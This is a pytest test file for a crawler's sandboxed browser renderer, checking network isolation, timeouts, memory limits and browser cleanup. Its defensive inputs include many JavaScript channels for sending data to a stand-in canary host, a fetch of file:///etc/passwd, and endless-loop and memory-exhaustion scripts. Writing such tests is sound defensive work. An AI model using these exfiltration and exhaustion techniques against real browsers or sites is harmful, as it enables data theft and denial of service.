"""Pages that mean harm to whoever draws them: the network stays shut, and all that they cost ends."""

from __future__ import annotations

import asyncio
import os
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import replace
from ipaddress import ip_network

import pytest

from monitor.domain.look import NotSeen, Seen
from spiders.crawl_settings import CrawlSettings
from spiders.rendered_limits import RenderingLimits
from spiders.rendered_tree import kill_tree, tree_of
from tests.spiders.crawling.loopback import SETTINGS, Crawled, LoopbackServer, column, crawled
from tests.spiders.crawling.rendered_site import (
    ASK,
    READERS,
    Canary,
    browsers_below,
    children,
    column_page,
    lives,
    needs_browser,
    wait_until,
)

pytestmark = needs_browser

SCRIPTED = ("unreadable", "list_rendered_by_script")
FAILED = ("unreadable", "rendering_failed")
QUICK = replace(SETTINGS, rendering=RenderingLimits(seconds=8.0))
A_CRAWL = """
import sys
from ipaddress import ip_network
from monitor.domain.crawl_plan import Visit
from spiders.crawl_run import run_crawl
from spiders.crawl_settings import CrawlSettings
from tests.spiders.crawling.rendered_site import READERS
settings = CrawlSettings(0.0, allow_networks=(ip_network("127.0.0.0/8"),))
visit = Visit(1, "column", sys.argv[1], ("通知公告",))
run_crawl([visit], settings=settings, readers=READERS, record=lambda results: None)
"""


@pytest.fixture(autouse=True)
def nothing_is_left() -> Iterator[None]:
    before = children()
    yield
    assert children() <= before


@pytest.fixture
def canary() -> Iterator[Canary]:
    """A host inside a network that is not open to us."""
    there = Canary()
    yield there
    there.close()


async def never(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    await asyncio.sleep(3600)


def drawn(server: LoopbackServer, *urls: str, settings: CrawlSettings = QUICK) -> Crawled:
    visits = [column(number, url, site_url=server.url("/")) for number, url in enumerate(urls, 1)]
    return crawled(*visits, settings=settings, readers=READERS)


def cause(found: Crawled, address_id: int = 1) -> tuple[str, str]:
    look = found.look(address_id)
    assert isinstance(look, NotSeen), look
    return look.outcome, look.reason


ATTEMPTS = {
    "picture": "new Image().src = 'http://CANARY/1.png';",
    "style": "document.head.innerHTML += '<link rel=stylesheet href=//CANARY/1.css>';",
    "hints": "for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'modulepreload'])"
    " document.head.innerHTML += `<link rel=${rel} as=fetch href=http://CANARY/${rel}>`;",
    "script": "document.head.append(Object.assign(document.createElement('script'),"
    " {src: '//CANARY/1.js'}));",
    "fetch": "fetch('http://CANARY/1').catch(() => 0);",
    "post": "fetch('http://CANARY/1', {method: 'POST', mode: 'no-cors', body: 'a=1'}).catch(() => 0);",
    "keepalive": "fetch('http://CANARY/1', {keepalive: true, mode: 'no-cors'}).catch(() => 0);",
    "beacon": "navigator.sendBeacon('http://CANARY/1', 'here');",
    "socket": "new WebSocket('ws://CANARY/1');",
    "events": "new EventSource('http://CANARY/1');",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'), {src: 'http://CANARY/1'}));",
    "frame_of_words": "document.body.append(Object.assign(document.createElement('iframe'),"
    " {srcdoc: `<img src=http://CANARY/1><script>fetch('http://CANARY/2')<\\/script>`}));",
    "object": "document.body.append(Object.assign(document.createElement('object'), {data: 'http://CANARY/1'}));",
    "window": "window.open('http://CANARY/1');",
    "form": "document.body.append(Object.assign(document.createElement('form'),"
    " {id: 'f', action: 'http://CANARY/1', method: 'post', target: 'f1'}));"
    " document.getElementById('f').submit();",
    "download": "Object.assign(document.createElement('a'),"
    " {href: 'http://CANARY/1', download: 'x'}).click();",
    "worker": "new Worker(URL.createObjectURL(new Blob([\"fetch('http://CANARY/1');"
    " new WebSocket('ws://CANARY/2')\"])));",
    "service_worker": "navigator.serviceWorker && navigator.serviceWorker.register('/sw.js').catch(() => 0);",
    "webrtc": "const peer = new RTCPeerConnection({iceServers: [{urls: ['stun:CANARY',"
    " 'turn:CANARY?transport=tcp'], username: 'u', credential: 'c'}]}); peer.createDataChannel('x');"
    " peer.createOffer().then(offer => peer.setLocalDescription(offer));",
    "transport": "try { new WebTransport('https://CANARY/1') } catch (error) { }",
    "redirected": "fetch('/leads/away').catch(() => 0);",
    "file": "fetch('file:///etc/passwd').catch(() => 0);",
}


@pytest.mark.parametrize("settings_open", ["127.0.0.1/32", "127.0.0.0/8"], ids=["guarded", "opened"])
def test_no_way_out_leads_to_another_host(server: LoopbackServer, canary: Canary, settings_open: str) -> None:
    """Not even to one that the operator has opened, for it is not the site."""
    from_here = {"Location": f"http://{canary.place}/1"}
    server.page("/leads/away", status=302, headers=from_here)
    attempts = " ".join(f"try {{ {attempt} }} catch (error) {{ }}" for attempt in ATTEMPTS.values())
    url = column_page(server, attempts.replace("CANARY", canary.place) + ASK)
    settings = replace(QUICK, allow_networks=(ip_network(settings_open),))
    look = drawn(server, url, settings=settings).look()
    assert canary.visitors == []
    assert isinstance(look, Seen)
    assert look.partial
    assert {path for path in server.paths() if path != "/tzgg/art/0.html"} <= {
        "/tzgg/",
        "/leads/away",
        "/api/list",
    }


@pytest.mark.parametrize(
    "way",
    [
        "location.href = 'http://CANARY/1';",
        "document.write('<meta http-equiv=refresh content=\"0;url=//CANARY/\">');",
    ],
    ids=["location", "refresh"],
)
def test_a_page_that_goes_elsewhere_goes_nowhere(server: LoopbackServer, canary: Canary, way: str) -> None:
    padding = "/* */" * 1000
    url = column_page(server, way.replace("CANARY", canary.place) + padding)
    assert cause(drawn(server, url)) in (SCRIPTED, FAILED)
    assert canary.visitors == []


ENDLESS = {
    "loop": "while (true) {}",
    "alerts": "while (true) alert('请更新浏览器');",
    "questions": "while (!confirm('继续？')) {}",
    "reloads": "setInterval(() => location.reload(), 50);",
    "requests": "setInterval(() => fetch('/api/list?' + Math.random()), 50);",
    "history": "setInterval(() => history.pushState(1, '', '/' + Math.random()), 1);",
    "windows": "setInterval(() => window.open('/tzgg/'), 20);",
    "words": "const grow = () => { document.body.append('通知'.repeat(1e6)); setTimeout(grow) }; grow();",
    "tags": "document.body.innerHTML = '<b>'.repeat(400000); ",
    "memory": "const kept = []; while (true) kept.push(new Uint8Array(5e7).fill(1));",
}


OFTEN = {"loop", "tags", "memory"}
"""Of each kind of cost one; the others are run with `--long`."""


@pytest.mark.parametrize(
    "script",
    [
        pytest.param(script, id=name, marks=() if name in OFTEN else pytest.mark.long)
        for name, script in ENDLESS.items()
    ],
)
def test_a_page_without_end_is_ended_and_the_next_one_read(server: LoopbackServer, script: str) -> None:
    column_page(server, script + "/* */" * 1000, path="/endless/")
    url = column_page(server)
    began = time.monotonic()
    found = drawn(server, server.url("/endless/"), url)
    assert time.monotonic() - began < 25
    assert cause(found) in (SCRIPTED, FAILED)
    assert isinstance(found.look(2), Seen)


def test_a_page_that_asks_on_and_on_is_stopped_and_proves_only_what_it_shows(server: LoopbackServer) -> None:
    url = column_page(server, f"{ASK} setInterval(() => fetch('/api/list?' + Math.random()), 50);")
    look = drawn(server, url).look()
    assert isinstance(look, Seen)
    assert look.partial
    assert len([path for path in server.paths() if path.startswith("/api")]) <= 25


def test_an_answer_that_does_not_come_costs_no_more_than_it_would_without_a_browser(
    server: LoopbackServer,
) -> None:
    server.raw("/api/never", never)
    waiting = column_page(server, f"{ASK} fetch('/api/never');", path="/waiting/")
    found = drawn(server, waiting, column_page(server))
    first = found.look(1)
    assert isinstance(first, Seen)
    assert first.partial
    assert isinstance(found.look(2), Seen)


def test_memory_is_bounded(server: LoopbackServer) -> None:
    limits = RenderingLimits(seconds=20.0, memory=700 * 2**20)
    server.raw("/api/never", never)
    grow = "const kept = []; setInterval(() => kept.push(new Uint8Array(4e7).fill(1)), 100);"
    script = f"fetch('/api/never'); {grow}"
    found = drawn(server, column_page(server, script), settings=replace(SETTINGS, rendering=limits))
    look = found.look()
    assert isinstance(look, NotSeen)
    assert (look.reason, look.detail) == ("rendering_failed", "more memory than it may have")


def test_a_browser_killed_in_mid_visit_is_named_and_the_next_column_read(server: LoopbackServer) -> None:
    killed: list[int] = []

    async def kill(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        for pid in browsers_below(os.getpid()):
            kill_tree(pid)
            killed.append(pid)
        await asyncio.sleep(3600)

    server.raw("/api/kill", kill)
    broken = column_page(server, "fetch('/api/kill');", path="/killed/")
    found = drawn(server, broken, column_page(server))
    assert killed
    assert cause(found) == FAILED
    assert isinstance(found.look(2), Seen)


def test_the_time_of_all_renderings_together_is_bounded(server: LoopbackServer) -> None:
    limits = RenderingLimits(seconds=6.0, seconds_a_crawl=0.1)
    urls = [column_page(server, path=f"/{number}/tzgg/") for number in (1, 2)]
    found = drawn(server, *urls, settings=replace(SETTINGS, rendering=limits))
    assert isinstance(found.look(1), Seen)
    assert cause(found, 2) == SCRIPTED


def test_a_stopped_run_leaves_no_browser_behind(server: LoopbackServer) -> None:
    url = column_page(server, "while (true) {}")
    visit = column(1, url, site_url=server.url("/"))
    began = time.monotonic()
    found = crawled(visit, settings=SETTINGS, readers=READERS, stop_after=3.0)
    assert time.monotonic() - began < 12
    assert found.summary.was_interrupted
    assert found.results == {}


@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGINT, signal.SIGKILL], ids=lambda n: n.name)
def test_a_crawl_that_is_told_to_end_takes_its_browser_with_it(
    server: LoopbackServer, number: signal.Signals, tmp_path_factory: pytest.TempPathFactory
) -> None:
    url = column_page(server, "fetch('/api/never');")
    server.raw("/api/never", never)
    place = tmp_path_factory.mktemp("t")
    with subprocess.Popen(
        [sys.executable, "-c", A_CRAWL, url], env={**os.environ, "TMPDIR": str(place)}
    ) as running:
        try:
            wait_until(lambda: "/api/never" in server.paths())
            below = tree_of(running.pid)
            assert len(below) > 3
            running.send_signal(number)
            running.wait(20)
            wait_until(lambda: not any(lives(pid) for pid in below))
            wait_until(lambda: list(place.iterdir()) == [])
        finally:
            kill_tree(running.pid)
